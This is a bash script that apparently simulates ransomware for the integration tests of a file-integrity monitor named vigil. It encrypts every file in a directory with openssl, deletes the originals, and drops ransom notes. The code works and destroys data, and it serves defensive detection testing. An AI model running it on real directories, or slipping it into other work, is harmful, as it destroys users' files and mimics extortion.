#!/usr/bin/env bash
# ransom_rename.sh DIR -- a test ransomware: encrypts every file under DIR
# with `openssl enc` as fast as it can, writes FILE.lockbit, deletes the
# original, and drops a ransom note in each folder it finished. For vigil's
# tests only (tests/integration/test_fim_ransomware.sh).
dir=$1
find "$dir" -type f ! -name '*.lockbit' -print0 |
    while IFS= read -r -d '' f; do
        openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass pass:vigil-test \
            -in "$f" -out "$f.lockbit" 2>/dev/null && rm -f -- "$f"
    done
find "$dir" -type d -print0 | while IFS= read -r -d '' d; do
    printf 'Your files are encrypted. Pay.\n' >"$d/README_LOCKBIT.txt"
done
